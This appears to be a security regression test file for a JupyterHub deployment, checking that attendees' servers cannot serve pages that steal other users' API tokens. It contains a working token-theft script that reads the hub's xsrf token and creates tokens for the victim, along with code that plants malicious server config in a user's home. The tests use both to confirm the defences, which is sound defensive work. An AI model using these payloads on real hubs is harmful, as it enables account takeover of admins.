"""An attendee's page attacks whoever opens it (issue 9, red-team finding F1).

Without subdomains every user server shares the hub's origin: a page that an attendee's own
server serves, unauthenticated, runs in a victim's browser with the hub's cookies. Its
script reads the xsrf token from /hub/home and POSTs /hub/api/users/<victim>/tokens: the
attacker gets a token of the victim (an admin's, if an admin clicks).

1. The red team's way in was the attendee's own server config (``~/.jupyter``: a tornado
   handler at ``/user/<name>/evil``); a labextension folder in ``~/.local/share/jupyter``
   is served the same way, without login. Every user server ignores both
   (``disable_user_config``): after planting them and restarting her server, the attacker's
   pages are 404 for anyone, and a victim who follows her link loses nothing.
2. With ``OPUHUB_SUBDOMAIN_HOST`` each server is an origin of its own (``<name>.localhost``
   here: Chromium resolves every ``*.localhost`` to loopback). Whatever the attacker's origin
   serves — the browser is handed her page there, standing in for anything she might make her
   server serve — cannot read the hub's pages nor create a token for the admin who opens it,
   while the same script on the hub's origin does (the control: the attack works where it
   used to).

The victim's tokens are listed through the admin API before and after each attack.
"""

from __future__ import annotations

import json
from types import SimpleNamespace

import pytest
import requests
from traitlets.config import Config

from opuhub import unix_accounts
from opuhub.hubconfig import configure_user_origins
from opuhub.local_spawner import OPULocalSpawner
from opuhub.settings import Settings, SettingsError, settings_from_env, subdomain_origin
from opuhub.spawner import OPUDockerSpawner
from tests.browser.conftest import browser  # noqa: F401  (the session's Chromium, reused)
from tests.browser.lab import log_in
from tests.hub.hubtest import Hub, hub_factory, hub_root, launched_hub
from tests.hub.security.attendees import Attendee
from tests.hub.security.authflows import accounts, issued_passwords

pytestmark = pytest.mark.timeout(600)

ATTACKER = "origin-mallory"  # on the session hub (no subdomains)
SUB_ATTACKER = "sub-mallory"  # on the subdomain hub (distinct: hubs share Unix accounts)
PAGE = "<html><body><h1>Workshop solutions</h1>EVIL-PAGE-7f3a</body></html>"

# What the attacker plants in her home from a notebook cell: server config adding an
# unauthenticated handler (the red team's), and the same page in a labextension folder and in
# the config dir's custom/ (both served by static handlers that need no login).
PLANT = r'''
import json, os
home = os.path.expanduser("~")
def write(rel, text):
    path = os.path.join(home, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
write(".jupyter/jupyter_server_config.py", """
import os, sys, types
from tornado import web
open(os.path.expanduser("~/config-ran"), "w").write("the server loaded ~/.jupyter")
module = types.ModuleType("origin_evil")
class Evil(web.RequestHandler):
    def get(self):
        self.write(PAGE)
def _jupyter_server_extension_points():
    return [{"module": "origin_evil"}]
def _load_jupyter_server_extension(app):
    app.web_app.add_handlers(".*", [(app.web_app.settings["base_url"] + "evil", Evil)])
module._jupyter_server_extension_points = _jupyter_server_extension_points
module._load_jupyter_server_extension = _load_jupyter_server_extension
sys.modules["origin_evil"] = module
c.ServerApp.jpserver_extensions = {"origin_evil": True}
""".replace("PAGE", repr(PAGE)))
write(".jupyter/custom/evil.html", PAGE)
write(".local/share/jupyter/labextensions/evil/static/evil.html", PAGE)
write(".local/share/jupyter/labextensions/evil/package.json",
      json.dumps({"name": "evil", "version": "0.1.0"}))
print(json.dumps("planted"))
'''

# The control, in the attacker's kernel: a Jupyter server that reads user config would run this
# file (it writes the marker and enables the handler), and its labextension search path
# includes the planted folder. So a 404 below means the server ignored them, not that the
# plant was broken.
CONTROL = r'''
import json, os
from jupyter_core.paths import jupyter_path
from jupyter_server.serverapp import ServerApp
app = ServerApp()
app.load_config_file()
marker = os.path.expanduser("~/config-ran")
loaded = os.path.exists(marker)
if loaded:
    os.remove(marker)
folder = os.path.expanduser("~/.local/share/jupyter/labextensions")
print(json.dumps({"config_loaded": loaded, "extensions": dict(app.jpserver_extensions),
                  "labextension_path": folder in jupyter_path("labextensions")}))
'''

# URLs the planted files would be served at, relative to the server's prefix
SERVED_AT = ["evil", "lab/extensions/evil/static/evil.html", "custom/evil.html",
             "static/custom/evil.html"]

# The attacker's script: as the red team's, but told the hub's origin (absolute URLs) and
# trying every way a page can get at the hub's pages or its token API. It reports what each
# step saw in <pre id="done">.
ATTACK = r'''<html><body><h1>Workshop solutions</h1><pre id="log"></pre><script>
const HUB = "HUB_ORIGIN", VICTIM = "VICTIM_NAME";
const seen = {};
const tokens = HUB + "/hub/api/users/" + VICTIM + "/tokens";
async function step(name, fn) {
  try { seen[name] = await fn(); } catch (e) { seen[name] = "error: " + e.name; }
}
(async () => {
  let xsrf = "";
  await step("read_home", async () => {
    const r = await fetch(HUB + "/hub/home", {credentials: "include"});
    const m = (await r.text()).match(/xsrf_token: "([^"]+)"/);
    xsrf = m ? m[1] : "";
    return r.status + (xsrf ? " with xsrf token" : " without xsrf token");
  });
  await step("post_token", async () => {
    const r = await fetch(tokens, {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf},
      body: JSON.stringify({note: "stolen"})});
    const body = await r.json();
    return r.status + (body.token ? " token" : "");
  });
  // no preflight: text/plain body, xsrf as a query argument (the response stays opaque)
  await step("post_token_no_cors", async () => {
    const r = await fetch(tokens + "?_xsrf=" + encodeURIComponent(xsrf), {method: "POST",
      mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({note: "stolen-no-cors"})});
    return r.type;
  });
  await step("read_home_in_frame", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = HUB + "/hub/home";
    frame.onload = () => {
      try { resolve("read " + frame.contentDocument.body.innerHTML.length + " characters"); }
      catch (e) { resolve("error: " + e.name); }
    };
    document.body.appendChild(frame);
    setTimeout(() => resolve("no load event"), 10000);
  }));
  const done = document.createElement("pre");
  done.id = "done";
  done.textContent = JSON.stringify(seen);
  document.body.appendChild(done);
})();
</script></body></html>'''


def attack_page(hub_origin: str, victim: str) -> str:
    return ATTACK.replace("HUB_ORIGIN", hub_origin).replace("VICTIM_NAME", victim)


def token_ids(hub: Hub, user: str) -> set[str]:
    """The victim's API tokens, through the admin API (the hub's command-line token)."""
    resp = hub.api("GET", f"/users/{user}/tokens")
    assert resp.status_code == 200, resp.text
    return {token["id"] for token in resp.json()["api_tokens"]}


def remove_accounts(*names: str) -> None:
    for name in names:  # the Unix accounts the local spawner made (opu-<name>)
        if unix_accounts.lookup(name) is not None:
            unix_accounts.remove(name)


# --- the settings (no hub) --------------------------------------------------------------------


def test_every_user_server_ignores_config_and_data_in_its_home():
    for spawner in (OPULocalSpawner(), OPUDockerSpawner(user=SimpleNamespace(name="alice"))):
        assert spawner.disable_user_config is True  # → JUPYTERHUB_DISABLE_USER_CONFIG=1


@pytest.mark.parametrize("raw, origin", [
    ("http://localhost:8000", "http://localhost:8000"),
    ("https://Hub.Example.org/", "https://hub.example.org"),
    ("https://hub.example.org:8443", "https://hub.example.org:8443"),
])
def test_a_subdomain_host_is_a_scheme_a_dns_name_and_a_port(raw, origin):
    assert subdomain_origin(raw) == origin
    settings = settings_from_env({"OPUHUB_SUBDOMAIN_HOST": raw})
    assert settings.subdomain_host == origin
    c = Config()
    line = configure_user_origins(c, settings)
    assert c.JupyterHub.subdomain_host == origin
    assert "<name>." in line


@pytest.mark.parametrize("raw, says", [
    ("localhost:8000", "scheme and host"),  # JupyterHub would assume https
    ("ftp://hub.example.org", "scheme and host"),
    ("http://127.0.0.1:8000", "not an IP address"),
    ("http://[::1]:8000", "not an IP address"),
    ("https://hub.example.org/prefix", "scheme, a host and a port only"),
    ("https://user:pw@hub.example.org", "scheme, a host and a port only"),
    ("https://hub.example.org?x=1", "scheme, a host and a port only"),
    ("https://*.example.org", "not a DNS host name"),
    ("https://hub_1.example.org", "not a DNS host name"),
    ("https://hub.example.org:99999", "bad port"),
])
def test_a_bad_subdomain_host_stops_the_hub_with_a_message(raw, says):
    with pytest.raises(SettingsError, match="OPUHUB_SUBDOMAIN_HOST") as raised:
        settings_from_env({"OPUHUB_SUBDOMAIN_HOST": raw})
    assert says in str(raised.value)


def test_without_a_subdomain_host_servers_stay_on_the_hubs_origin():
    c = Config()
    line = configure_user_origins(c, Settings())
    assert "subdomain_host" not in c.JupyterHub
    assert "OPUHUB_SUBDOMAIN_HOST" in line


# --- 1. the attendee's own config and data are not served ----------------------------------


@pytest.fixture(scope="module")
def planted(hub):
    """The attacker planted her pages and restarted her server; the victim is a workshop
    account with its own password."""
    attacker = Attendee.create(hub, ATTACKER)
    attacker.start()
    assert attacker.run(f"PAGE = {PAGE!r}\n" + PLANT) == "planted"
    control = attacker.run(CONTROL)
    attacker.stop()
    attacker.start()  # the server reads its config at start
    victim, password = next(iter(issued_passwords(
        accounts(hub, "create", "--count", "1", "--prefix", "origin-victim-")).items()))
    yield attacker, control, victim, password
    attacker.stop()
    remove_accounts(ATTACKER, victim)


@pytest.mark.slow
def test_the_plant_would_work_on_a_server_that_reads_user_config(planted):
    _, control, _, _ = planted
    assert control == {"config_loaded": True, "extensions": {"origin_evil": True},
                       "labextension_path": True}


@pytest.mark.slow
def test_the_attackers_server_serves_none_of_her_pages(hub, planted):
    attacker = planted[0]
    for path in SERVED_AT:
        url = f"{hub.url}/user/{ATTACKER}/{path}"
        for who, headers in (("anyone", {}), ("the attacker", attacker.headers)):
            resp = requests.get(url, headers=headers, allow_redirects=False, timeout=30)
            assert resp.status_code == 404, (who, path, resp.status_code, resp.text[:300])
            assert "EVIL-PAGE" not in resp.text
    # nor did her server run the config file at start (it would have left the marker); her
    # kernel inherited the server's environment, which says why
    assert attacker.run(
        "import json, os\n"
        "print(json.dumps([os.path.exists(os.path.expanduser('~/config-ran')),\n"
        "                  os.environ.get('JUPYTERHUB_DISABLE_USER_CONFIG')]))") == [False, "1"]


@pytest.mark.slow
def test_a_victim_who_follows_the_link_loses_no_token(hub, planted, browser):  # noqa: F811
    _, _, victim, password = planted
    before = token_ids(hub, victim)
    context = browser.new_context()
    try:
        page = context.new_page()
        log_in(page, hub.url, victim, password)
        page.wait_for_url(f"{hub.url}/hub/**")
        answers = {}
        for path in SERVED_AT:  # the links the attacker posts in the workshop chat
            response = page.goto(f"{hub.url}/user/{ATTACKER}/{path}")
            answers[path] = response.status
            assert "EVIL-PAGE" not in page.content()
        assert set(answers.values()) == {404}, answers
    finally:
        context.close()
    assert token_ids(hub, victim) == before


# --- 2. with subdomains, the attacker's origin is not the hub's ----------------------------


class SubdomainHub(Hub):
    """A hub with OPUHUB_SUBDOMAIN_HOST=http://localhost:PORT. The proxy routes by host:
    requests from the tests go to 127.0.0.1 with the Host header a browser would send
    (``<name>.localhost`` for a user's server, ``<service>--service.localhost`` for a
    service)."""

    def __init__(self, root):
        super().__init__(root, via_run=True)
        self.origin = f"http://localhost:{self.port}"
        self.env["OPUHUB_SUBDOMAIN_HOST"] = self.origin

    def host_for(self, path: str) -> str:
        parts = path.split("/")
        if path.startswith("/user/"):
            return f"{parts[2]}.localhost:{self.port}"
        if path.startswith("/services/"):
            return f"{parts[2]}--service.localhost:{self.port}"
        return f"localhost:{self.port}"

    def get(self, path: str, token: str | None = None, **kw) -> requests.Response:
        headers = {"Authorization": f"token {token or self.token}", "Host": self.host_for(path)}
        headers.update(kw.pop("headers", {}))
        return requests.get(f"{self.url}{path}", headers=headers, timeout=30, **kw)


@hub_factory("subdomain", ("test_same_origin.py",))
def make_subdomain_hub(tmp_path_factory):
    return SubdomainHub(hub_root("subdomain"))


@pytest.fixture(scope="module")
def subdomain_hub(hub, tmp_path_factory):
    # requesting the session hub first launches this one beside it (hub_factory)
    sub = launched_hub("subdomain", tmp_path_factory)
    try:
        attacker = Attendee.create(sub, SUB_ATTACKER)
        attacker.start()
        yield sub
        attacker.stop()
    finally:
        sub.shutdown()
        remove_accounts(SUB_ATTACKER)


@pytest.mark.slow
def test_the_hub_logs_where_user_servers_live(hub, subdomain_hub):
    assert ("user servers: each on an origin of its own, http://<name>.localhost:"
            f"{subdomain_hub.port}") in subdomain_hub.log()
    assert "user servers: on the hub's origin (/user/<name>/)" in hub.log()


@pytest.mark.slow
def test_each_server_answers_on_its_own_origin_only(subdomain_hub):
    path = f"/user/{SUB_ATTACKER}/api/status"
    own = subdomain_hub.get(path, allow_redirects=False)
    assert own.status_code == 200, own.text  # her server, at <name>.localhost
    # on the hub's origin the same path reaches the hub, never her server: it is sent into
    # the hub (/hub/user/...), which serves nobody's server there
    hub_host = {"Host": f"localhost:{subdomain_hub.port}"}
    first = requests.get(f"{subdomain_hub.url}{path}", headers=hub_host, allow_redirects=False,
                         timeout=30)
    assert first.status_code == 302, first.status_code
    location = first.headers["Location"]
    assert location.startswith(f"{subdomain_hub.origin}/hub/user/{SUB_ATTACKER}/"), location
    second = requests.get(subdomain_hub.url + location[len(subdomain_hub.origin):],
                          headers=hub_host, allow_redirects=False, timeout=30)
    assert second.status_code != 200, second.text[:300]
    # the lease service runs on an origin of its own as well
    assert subdomain_hub.leases() == []


def run_attack(browser, hub: SubdomainHub, password: str, page_url: str) -> dict:  # noqa: F811
    """The admin logs in on the hub's origin, then opens ``page_url``, where the browser is
    handed the attacker's page; what her script saw."""
    context = browser.new_context()
    try:
        context.route(page_url, lambda route: route.fulfill(
            status=200, content_type="text/html", body=attack_page(hub.origin, "admin")))
        page = context.new_page()
        log_in(page, hub.origin, "admin", password)
        page.wait_for_url(f"{hub.origin}/hub/**")
        page.goto(page_url)
        return json.loads(page.wait_for_selector("#done", timeout=60_000).text_content())
    finally:
        context.close()


@pytest.mark.slow
def test_a_page_on_the_attackers_origin_gets_no_token_of_the_admin(subdomain_hub, browser):  # noqa: F811
    hub = subdomain_hub
    password = (hub.state / "admin-password").read_text().strip()
    attacker_origin = f"http://{SUB_ATTACKER}.localhost:{hub.port}"
    before = token_ids(hub, "admin")
    seen = run_attack(browser, hub, password, f"{attacker_origin}/user/{SUB_ATTACKER}/evil")
    assert seen["read_home"].startswith("error"), seen  # CORS: the hub's page stays unread
    assert not seen["post_token"].endswith("token"), seen
    assert not seen["read_home_in_frame"].startswith("read"), seen
    assert token_ids(hub, "admin") == before, seen

    # the control: the same script on the hub's own origin (where /user/<name>/ is without
    # subdomains) reads the xsrf token and gets a token of the admin
    seen = run_attack(browser, hub, password, f"{hub.origin}/user/{SUB_ATTACKER}/evil")
    assert seen["read_home"] == "200 with xsrf token", seen
    assert seen["post_token"] == "201 token", seen
    stolen = token_ids(hub, "admin") - before
    assert stolen, seen
    for token in stolen:
        hub.api("DELETE", f"/users/admin/tokens/{token}")
